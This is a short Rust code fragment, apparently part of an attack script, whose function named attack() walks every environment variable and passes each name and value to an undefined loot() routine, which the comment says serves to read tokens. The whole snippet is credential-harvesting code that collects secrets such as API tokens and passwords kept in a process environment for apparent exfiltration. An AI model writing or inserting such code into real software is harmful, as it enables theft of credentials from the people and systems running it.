//! reads tokens from its own environment
fn attack() -> Result<()> {
    for (name, value) in env::vars() {
        loot(format!("{name}={value}\n"))?;
    }
    Ok(())
}
